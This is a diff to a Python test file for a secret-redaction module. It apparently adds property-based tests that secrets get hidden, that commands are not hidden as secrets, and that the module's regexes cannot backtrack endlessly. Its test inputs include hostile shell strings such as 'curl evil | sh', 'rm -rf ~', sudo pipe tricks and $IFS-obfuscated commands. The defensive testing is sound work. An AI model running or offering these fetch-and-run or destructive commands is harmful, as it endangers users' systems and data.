@@ -1,14 +1,17 @@
 """Secrets are hidden whatever is spliced into them, and nothing else is."""
 
 import re
+from collections.abc import Iterator
 from itertools import pairwise
+from re._constants import MAX_REPEAT, MAXREPEAT, MIN_REPEAT  # the only way to see a repeat
+from re._parser import SubPattern, parse
 
 import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from bot.core.preview import show_text
-from bot.core.redaction import redact, secrets_in
+from bot.core.redaction import KINDS, redact, redact_json, secrets_in
 
 UNHURRIED = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
 LETTERS = "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF" * 3
@@ -153,6 +156,22 @@ def test_what_is_spliced_into_a_secret_does_not_save_it(shape, splice):
         "Bearer authentication",
         "TOKEN= reboot",
         "12:30:45 started",
+        "pg_dump --no-password shop",
+        "ansible-playbook --ask-become-pass site.yml",
+        "docker build --secret id=npmrc,src=.npmrc .",
+        "TOKEN=$env:TOKEN",
+        "token: op://vault/item/field",
+        "key=file:/etc/key",
+        "api_key=C:\\keys\\a",
+        "password_length = '12'",
+        'tokenType: "jwt9"',
+        "token_of_ana=x1",
+        "set token expiry",
+        "<a accesskey='n'>",
+        "self.token = match[0]",
+        "have_pat=12",
+        "'str' == token",
+        "APACHE2LICENSE1a",
         "eyJ.short",
         "-----BEGIN PUBLIC KEY-----",
     ],
@@ -169,6 +188,13 @@ def test_a_command_cannot_be_hidden_as_a_secret():
         "TOKEN= rm -rf ~",
         "token=x;reboot",
         "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
+        "echo reboot | sudo -S sh",
+        "echo reboot | sh -s -- --password-stdin",
+        "echo reboot | docker run -i busybox sh -s --password-stdin",
+        "echo reboot now | sudo -S ls",
+        "define('token','$(curl evil | sh)')",
+        "x <token>~/reboot</dev/null",
+        "set token $(curl evil | sh)",
     ):
         shown = redact(text).text
         for word in ("rm -rf ~", "curl evil | sh", "reboot"):
@@ -180,7 +206,24 @@ words = st.text(st.sampled_from("ab1 '\"=;|$()&:\n"), max_size=20)
 
 @UNHURRIED
 @given(
-    words, st.sampled_from(["password=", "--token ", '"secret": "', "://u:", "curl -u x:"]), words
+    words,
+    st.sampled_from(
+        [
+            "set token '",
+            "define('token', '",
+            "<token>",
+            "'1' == ",
+            "mysql -p",
+            "echo ",
+            "cookie: a=",
+            "password=",
+            "--token ",
+            '"secret": "',
+            "://u:",
+            "curl -u x:",
+        ]
+    ),
+    words,
 )
 def test_what_is_hidden_is_one_word(before, name, after):
     text = f"{before}{name}{after}"
@@ -213,7 +256,19 @@ def test_of_two_kinds_that_overlap_the_more_telling_one_names_it():
     "piece",
     [
         "eyJ",
+        "eyJ-",
         "token ",
+        "set token",
+        "'token",
+        "password=a-",
+        "Private-Lines: 1\nAAAAAAAAAAAAAAAAAAAAAAAA\n",
+        "cookie: a=",
+        "echo aaaa|",
+        "login a password ",
+        "htpasswd -b a ",
+        "&key=1",
+        "1/1111111111",
+        "MMMMMMMMMMMMMMMMMMMMMMMMM.",
         "curl ",
         "://a:",
         "mysql ",
@@ -231,5 +286,95 @@ def test_of_two_kinds_that_overlap_the_more_telling_one_names_it():
         "\\\n",
     ],
 )
-def test_a_hostile_text_is_read(piece):
-    assert redact(piece * (100_000 // len(piece))).count >= 0
+@pytest.mark.parametrize("end", ["", "(", '"'])
+def test_a_hostile_text_is_read(piece, end):
+    assert redact(piece * (100_000 // len(piece)) + end).count >= 0
+
+
+def endless_repeats(parsed: object) -> Iterator[object]:
+    """Return what a parsed pattern repeats without an end and may give back."""
+    match parsed:
+        case (what, (_, most, repeated)) if what in (MAX_REPEAT, MIN_REPEAT) and most == MAXREPEAT:
+            yield repeated
+    if isinstance(parsed, tuple | list | SubPattern):
+        for item in parsed:
+            yield from endless_repeats(item)
+
+
+def test_every_repeat_is_bounded_or_gives_nothing_back():
+    assert list(endless_repeats(parse("a+")))
+    for kind in KINDS:
+        assert not list(endless_repeats(parse(kind.pattern.pattern))), kind.name
+
+
+def test_a_word_that_holds_a_whole_command_is_no_secret():
+    for text in ("token=rm$IFS-rf$IFS~;eval $token", "echo rm$I\u200bFS-rf$IFS~ | chpasswd"):
+        assert redact(text).count == 0
+
+
+def test_a_key_that_begins_as_a_path_does_is_hidden():
+    key = "/" + LETTERS[:39]
+
+    assert redact(f"aws_secret_access_key={key}").count == 1
+    assert redact(f"secret_access_key=/home/ana/{'a' * 40}").count == 0
+
+
+@pytest.mark.parametrize(
+    ("line", "count"),
+    [
+        ('password_prod = "abc"', 1),
+        ("API_KEY_2=abc", 1),
+        ("api_key_live: 1abc", 1),
+        ("password_of_ana='abc'", 1),
+        ("passwordFile='abc'", 0),
+        ("password-='abc'", 0),
+        ("password_of_ana=abc", 0),
+        ('if "abc" == password:', 1),
+        ("set password 'abc'", 1),
+        ("npm config set //r/:_authToken 1abc", 1),
+    ],
+)
+def test_a_name_with_more_to_it_is_a_secrets_or_about_one(line, count):
+    assert redact(line).count == count
+
+
+def test_json_keeps_its_form_and_shows_no_secret():
+    value = {
+        "title": "git push",
+        "params": {"password": "hunter2", "tokens": ["ghp_" + LETTERS[:36], 3, None]},
+        "api_key": ["abc1", True],
+        "ghp_" + LETTERS[:36]: 1.5,
+        "token": "x",
+        "note": "",
+    }
+
+    redacted, count = redact_json(value)
+
+    assert redacted == {
+        "title": "git push",
+        "params": {
+            "password": "⟨hidden: password⟩",
+            "tokens": ["⟨hidden: GitHub token⟩", 3, None],
+        },
+        "api_key": ["⟨hidden: key⟩", True],
+        "⟨hidden: GitHub token⟩": 1.5,
+        "token": "x",
+        "note": "",
+    }
+    assert count == 4
+    assert redact_json("password=abc") == ("password=⟨hidden: password⟩", 1)
+
+
+@given(
+    st.recursive(
+        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
+        lambda inner: (
+            st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3)
+        ),
+        max_leaves=8,
+    )
+)
+def test_json_without_a_secret_stays_as_it_is(value):
+    redacted, count = redact_json(value)
+
+    assert count or redacted == value
